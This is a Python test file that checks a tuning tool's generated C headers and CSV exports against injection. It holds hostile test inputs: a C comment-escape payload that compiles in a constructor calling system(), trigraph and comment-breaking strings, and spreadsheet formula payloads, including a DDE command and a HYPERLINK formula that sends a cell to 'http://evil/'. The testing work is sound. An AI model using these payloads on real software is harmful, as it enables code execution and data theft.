"""Generated files that no input can break out of (issue 40): the C header of ``gptask export-table``
compiled by the real gcc with adversarial names, units and values (no code injected, the table reads
the right values, the layout unchanged), and CSV cells that a spreadsheet cannot run as a formula."""

import csv
import hashlib
import io
import json
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest

import gptask as gt
from gptask.cli.main import main
from gptask.insight.export import c_comment_text, c_string_literal, to_c_header
from gptask.insight.selection import Entry, SelectionTable

ROOT = Path(__file__).resolve().parents[1]
TWO_CORE = ROOT / "models" / "pdgeqrf_2core.json"
CC = shutil.which("gcc")
needs_gcc = pytest.mark.skipif(CC is None, reason="no gcc installed")
STRICT = ["-std=c99", "-pedantic", "-Werror", "-Wall", "-Wextra", "-trigraphs"]

#: the issue's payload: a name whose `*\` newline `/` the preprocessor splices into `*/`, then a
#: constructor that runs a command in every program including the header
PAYLOAD = ('x *\\\n/\n#include <stdlib.h>\n__attribute__((constructor)) static void pwn(void) '
           '{ if (system("touch PWNED")) {} }\n/* ')
#: texts no comment body or string literal may be left by (each also tried inside longer text)
ADVERSARIAL = ["*/", "*\\\n/", "*??/\n/", "??/", "??=define X", "??(??)??<??>??!??'??-", "???/", "\x7f", "\x00",
               "a\nb\rc", "\r\n*/", "é ü 中 \u202e\u2066", "/*", "//", "\\", "\\\\\n", '"', "'", "?", "??",
               "*/ int evil; /*", '"; int evil; "', "\\\"", "\t\v\f\b\a\x1b", "\U0001F600", "*", "/"]


def _table(problem: str = "demo", unit: str = "s", choices=("a", "b")) -> SelectionTable:
    """A small hand-made table: one integer task dimension, a categorical, an integer and a real
    parameter; entries with known values (the independent reference)."""
    tspace = gt.Space([gt.Integer("m", 1, 100)])
    pspace = gt.Space([gt.Categorical("kind", list(choices)), gt.Integer("nb", -64, 64), gt.Real("alpha", -1.0, 1.0)])
    entries = [Entry({"m": m}, {"kind": choices[k % len(choices)], "nb": nb, "alpha": a}, src, v, sd, None, None, "n")
               for k, (m, nb, a, src, v, sd) in enumerate([(10, -8, -0.5, "tuned", 1.25, 0.125),
                                                            (20, 16, 0.25, "predicted", 2.5, 0.5),
                                                            (30, 64, 1.0, "fallback", None, None)])]
    entries += [Entry({"m": 40 + 10 * k}, {"kind": c, "nb": k, "alpha": 0.0}, "tuned", 3.0 + k, 0.25, None, None, "n")
                for k, c in enumerate(choices)]
    axes = {"m": [e.task["m"] for e in entries]}
    return SelectionTable(axes, entries, tspace, pspace, unit=unit, problem=problem, tuned_range={"m": (10, 20)})


def _compile(tmp: Path, header: str, main_body: str, std: str = "-std=c99", extra=()) -> subprocess.CompletedProcess:
    (tmp / "table.h").write_text(header)
    (tmp / "probe.c").write_text('#include <stdio.h>\n#include <string.h>\n#include <stddef.h>\n#include "table.h"\n'
                                 "int main(void) {\n" + main_body + "\n  return 0;\n}\n")
    flags = [std if f == "-std=c99" else f for f in STRICT]
    return subprocess.run([CC, *flags, *extra, "-o", "probe", "probe.c", "-lm"], cwd=tmp, capture_output=True,
                          text=True, timeout=120)


def _dump_program() -> str:
    """C code printing every entry (task, kind as escaped bytes, nb, alpha, value, std, fallback) and
    the struct's layout."""
    return r"""
  for (int k = 0; k < GPTASK_TABLE_N_ENTRIES; k++) {
    const gptask_table_entry *e = &gptask_table_entries[k];
    printf("%g|", e->task[0]);
    for (const unsigned char *c = (const unsigned char *)e->kind; *c; c++) printf("%02x", *c);
    printf("|%d|%.17g|%.17g|%.17g|%d\n", e->nb, e->alpha, e->value, e->value_std, e->fallback);
  }
  printf("layout %zu %zu %zu %zu %zu %zu %zu\n", sizeof(gptask_table_entry), offsetof(gptask_table_entry, kind),
         offsetof(gptask_table_entry, nb), offsetof(gptask_table_entry, alpha), offsetof(gptask_table_entry, value),
         offsetof(gptask_table_entry, value_std), offsetof(gptask_table_entry, fallback));
  printf("name %s\n", gptask_table_task_names[0]);"""


def _expected(table: SelectionTable) -> list[str]:
    nan = float("nan")
    return [f"{e.task['m']:g}|{str(e.params['kind']).encode().hex()}|{e.params['nb']}|{e.params['alpha']!r}|"
            f"{e.value if e.value is not None else nan!r}|{e.value_std if e.value_std is not None else nan!r}|"
            f"{int(e.fallback)}" for e in table.entries]


def _run(tmp: Path) -> list[str]:
    return subprocess.run(["./probe"], cwd=tmp, capture_output=True, text=True, check=True, timeout=60).stdout.splitlines()


def _c_floats(lines: list[str]) -> list[str]:
    # C prints %.17g; Python's repr is the shortest text: compare as floats (nan as text)
    out = []
    for line in lines:
        f = line.split("|")
        out.append("|".join(f[:3] + [repr(float(x)) for x in f[3:6]] + f[6:]))
    return out


@needs_gcc
def test_the_injection_of_the_issue_runs_no_code_and_keeps_the_table(tmp_path):
    plain, evil = _table(), _table(problem=PAYLOAD, unit="*/int pu;/*")
    ref = tmp_path / "ref"
    ref.mkdir()
    assert _compile(ref, to_c_header(plain, "M.json"), _dump_program()).returncode == 0
    ref_out = _run(ref)
    r = _compile(tmp_path, to_c_header(evil, PAYLOAD), _dump_program())
    assert r.returncode == 0, r.stderr
    out = _run(tmp_path)
    assert not (tmp_path / "PWNED").exists()  # the constructor was not compiled in
    assert out == ref_out  # same values, same layout
    assert _c_floats(out[:-2]) == _expected(evil)
    sym = lambda d: subprocess.run(["nm", "probe"], cwd=d, capture_output=True, text=True, check=True).stdout
    names = lambda d: sorted(line.split()[-1] for line in sym(d).splitlines())
    assert names(tmp_path) == names(ref) and "pwn" not in sym(tmp_path)


@needs_gcc
@pytest.mark.parametrize("text", ADVERSARIAL)
def test_no_text_leaves_a_comment_or_a_string_literal(tmp_path, text):
    text = f"a{text}b"
    probe = ("static const char *s = " + c_string_literal(text.replace("\x00", "")) + ";\n"
             "/* " + c_comment_text(text) + " */\n")
    (tmp_path / "t.c").write_text('#include <stdio.h>\n' + probe +
                                  'int main(void) { const unsigned char *c = (const unsigned char *)s;\n'
                                  '  for (; *c; c++) printf("%02x", *c);\n  return 0; }\n')
    r = subprocess.run([CC, *STRICT, "-o", "t", "t.c"], cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    assert _run_named(tmp_path, "./t") == text.replace("\x00", "").encode().hex()
    body = c_comment_text(text)
    assert body.isascii() and body.isprintable()
    assert all(s not in body for s in ("*/", "/*", "??", "\\"))


def _run_named(tmp: Path, exe: str) -> str:
    return subprocess.run([exe], cwd=tmp, capture_output=True, text=True, check=True, timeout=60).stdout


def test_a_string_literal_refuses_a_nul():
    with pytest.raises(ValueError, match="NUL"):
        c_string_literal("a\x00b")


@needs_gcc
@pytest.mark.parametrize("choice", ["\x7f", "??/", '"x"', "a\\", "*/", "é", "line\nbreak", "\U0001F600"])
def test_categorical_values_read_back_exactly(tmp_path, choice):
    table = _table(choices=("plain", choice))
    r = _compile(tmp_path, to_c_header(table, "M.json"), _dump_program())
    assert r.returncode == 0, r.stderr
    assert _c_floats(_run(tmp_path)[:-2]) == _expected(table)


@pytest.mark.parametrize("name", ["int", "value", "task", "fallback", "value_std", "NAN", "INFINITY", "HUGE_VAL",
                                  "__x", "_X", "a b", "é", "x\n", "while", "_Bool"])
def test_parameter_names_that_are_not_safe_c_members_are_refused(name):
    table = _table()
    pspace = gt.Space([gt.Categorical(name, ["a", "b"]), gt.Integer("nb", -64, 64), gt.Real("alpha", -1.0, 1.0)])
    entries = [replace(e, params={name: e.params["kind"], "nb": e.params["nb"], "alpha": e.params["alpha"]})
               for e in table.entries]
    with pytest.raises(ValueError, match="C member name") as info:
        to_c_header(replace(table, param_space=pspace, entries=entries))
    assert repr(name) in str(info.value)


@pytest.mark.parametrize("prefix", ["int", "a b", "", "x\n", "__p", "_P"])
def test_bad_prefixes_are_refused(prefix):
    with pytest.raises(ValueError, match="prefix"):
        to_c_header(_table(), prefix=prefix)


@needs_gcc
def test_the_header_states_c99_and_refuses_c89_clearly(tmp_path):
    header = to_c_header(_table(), "M.json")
    assert "C99" in header.split("*/")[0]
    r = _compile(tmp_path, header, "", std="-std=c89")
    assert r.returncode != 0 and "#error" in r.stderr and "C99" in r.stderr
    for std in ("-std=c99", "-std=c11", "-std=c17", "-std=gnu99"):
        assert _compile(tmp_path, header, _dump_program(), std=std).returncode == 0


def _recheck(doc: dict) -> dict:
    body = {k: v for k, v in doc.items() if k != "checksum"}
    text = json.dumps(body, sort_keys=True, separators=(",", ":"), allow_nan=False)
    return {**body, "checksum": "sha256:" + hashlib.sha256(text.encode()).hexdigest()}


@needs_gcc
def test_a_crafted_model_file_cannot_inject_code_through_export_table(tmp_path, capsys):
    doc = json.loads(TWO_CORE.read_text())
    doc["problem"]["name"] = PAYLOAD
    evil = tmp_path / "evil.json"
    evil.write_text(json.dumps(_recheck(doc)))
    header = tmp_path / "t.h"
    assert main(["export-table", str(evil), "--grid", "m=300:1000:3,n=500:1000:2", "--format", "c-header",
                 "--out", str(header), "-q"]) == 0
    r = _compile(tmp_path, header.read_text(), 'printf("%d\\n", gptask_table_entries[0].mb);')
    assert r.returncode == 0, r.stderr
    _run(tmp_path)
    assert not (tmp_path / "PWNED").exists() and "system" not in header.read_text().split("#ifndef")[1]


# --- CSV cells -----------------------------------------------------------------------------------

FORMULAS = ["=1+1", "+cmd", "@SUM(A1)", "-2+3", "=HYPERLINK(\"http://x\",\"y\")", "\tTAB", "\rCR"]


def _formula_cells(text: str) -> list[str]:
    """The cells of a CSV text a spreadsheet would evaluate (a text starting with = + - @ TAB CR
    that is not a plain number)."""
    import re

    number = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
    return [c for row in csv.reader(io.StringIO(text)) for c in row
            if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.fullmatch(c)]


def test_gptask_export_guards_every_text_cell_and_fit_reads_it_back(tmp_path):
    from gptask.sources.rows import read_rows
    from gptask.data.storage import SQLiteStorage
    from gptask.data.storage.export import to_csv

    tasks = gt.Space([gt.Categorical("kind", ["=1+1", "+cmd", "@SUM(A1)"])])
    params = gt.Space([gt.Categorical("op", ["-x", "ok"]), gt.Integer("shift", -9, 9), gt.Ordinal("mode", ["=a", "b"])])
    prob = gt.Problem(tasks, params, lambda t, p: 1.0, name="formulas")
    data = [{"kind": k, "op": op, "shift": sh, "mode": m, "value": -1.5 + j}
            for j, (k, op, sh, m) in enumerate([("=1+1", "-x", -3, "=a"), ("+cmd", "ok", 4, "b"),
                                                 ("@SUM(A1)", "-x", -9, "=a")])]
    machine = {"label": "=cmd|' /C calc'!A0", "host": "@host", "cores": 4}
    gt.import_runs(prob, data, tmp_path / "h.sqlite", machine=machine)
    with SQLiteStorage(tmp_path / "h.sqlite", create=False) as s:
        text = to_csv(s)
    assert _formula_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["task.kind"] for r in rows] == ["'=1+1", "'+cmd", "'@SUM(A1)"]
    assert rows[0]["machine.label"] == "'=cmd|' /C calc'!A0" and rows[0]["machine.host"] == "'@host"
    assert [r["param.shift"] for r in rows] == ["-3", "4", "-9"]  # negative numbers stay numbers
    assert [r["value"] for r in rows] == ["-1.5", "-0.5", "0.5"]
    # gptask fit / import_runs read the export back to the same values and machine
    (tmp_path / "h.csv").write_text(text)
    back = read_rows(prob, tmp_path / "h.csv")
    assert [(r.task, r.params, r.value) for r in back] == [({"kind": d["kind"]}, {k: d[k] for k in ("op", "shift", "mode")},
                                                            d["value"]) for d in data]
    assert back[0].machine["label"] == machine["label"] and back[0].machine["host"] == "@host"


def test_a_kernel_tuner_device_name_formula_stays_text_in_the_export(tmp_path):
    from gptask.sources.replay import read_recording, replay_problem
    from gptask.data.storage import SQLiteStorage
    from gptask.data.storage.export import to_csv

    device = '=HYPERLINK("http://evil/?"&A1,"click")'
    kt = {"device_name": device, "tune_params_keys": ["bs"], "tune_params": {"bs": [32, 64]}, "objective": "time",
          "cache": {"32": {"bs": 32, "time": 1.5}, "64": {"bs": 64, "time": 1.25}}}
    (tmp_path / "kt.json").write_text(json.dumps(kt))
    prob = replay_problem([read_recording(tmp_path / "kt.json")])
    gt.import_runs(prob, tmp_path / "kt.json", tmp_path / "h.sqlite")
    with SQLiteStorage(tmp_path / "h.sqlite", create=False) as s:
        text = to_csv(s)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and all(r["task.machine"] == "'" + device for r in rows)
    assert _formula_cells(text) == []


def test_the_selection_table_csv_guards_its_cells():
    from gptask.insight.export import to_csv

    table = _table(choices=tuple(FORMULAS))
    text = to_csv(table)
    assert _formula_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["kind"] for r in rows][-len(FORMULAS):] == ["'" + f for f in FORMULAS]
    assert rows[0]["nb"] == "-8" and rows[0]["alpha"] == "-0.5"  # numbers stay numbers
    assert rows[0]["unit"] == "s" and rows[0]["objective"] == ""


# --- the unit and the objective without --problem ----------------------------------------------------

@needs_gcc
def test_export_table_keeps_the_unit_and_names_the_objective_without_the_problem(tmp_path, capsys):
    def two(task, p):
        return {"time": (p["x"] - task["t"]) ** 2 + 1.0, "energy": p["x"] + 1.0}

    prob = gt.Problem(gt.Space([gt.Real("t", 0.0, 1.0)]), gt.Space([gt.Real("x", 0.0, 1.0)]), two,
                      objectives=["time", "energy"], unit="ms", name="two")
    res = gt.tune(prob, tasks=[{"t": 0.2}, {"t": 0.8}], budget=5, n_initial=4, seed=0, progress=False)
    res.save_model(tmp_path / "m.json", accuracy=False)
    # a model saved again from the loaded model (no problem) keeps the unit too
    from gptask.transfer.model_io import save_model

    save_model(gt.load_model(tmp_path / "m.json"), tmp_path / "again.json", accuracy=False)
    for name in ("m.json", "again.json"):
        out = {}
        for fmt in ("json", "csv", "c-header"):
            assert main(["export-table", str(tmp_path / name), "--grid", "t=0.2:0.8:3", "--format", fmt,
                         "--out", str(tmp_path / f"t.{fmt}"), "-q"]) == 0
            out[fmt] = (tmp_path / f"t.{fmt}").read_text()
        doc = json.loads(out["json"])
        assert doc["unit"] == "ms" and doc["objective"] == "time"
        rows = list(csv.DictReader(out["csv"].splitlines()))
        assert {(r["objective"], r["unit"]) for r in rows} == {("time", "ms")}
        r = _compile(tmp_path, out["c-header"], 'printf("%s %s\\n", GPTASK_TABLE_OBJECTIVE, GPTASK_TABLE_UNIT);')
        assert r.returncode == 0, r.stderr
        assert _run(tmp_path) == ["time ms"] and "value of time (ms)" in out["c-header"]


@needs_gcc
def test_integers_beyond_32_bits_keep_their_value(tmp_path):
    """A 32-bit int member would have wrapped 5e11 (a -Woverflow warning, a wrong value without -Werror)."""
    table = _table()
    pspace = gt.Space([gt.Categorical("kind", ["a", "b"]), gt.Integer("nb", -10**12, 10**12), gt.Real("alpha", -1.0, 1.0)])
    entries = [replace(e, params={**e.params, "nb": e.params["nb"] * 10**10}) for e in table.entries]
    r = _compile(tmp_path, to_c_header(replace(table, param_space=pspace, entries=entries)),
                 'for (int k = 0; k < GPTASK_TABLE_N_ENTRIES; k++) printf("%lld\\n", gptask_table_entries[k].nb);')
    assert r.returncode == 0, r.stderr
    assert _run(tmp_path) == [str(e.params["nb"]) for e in entries]
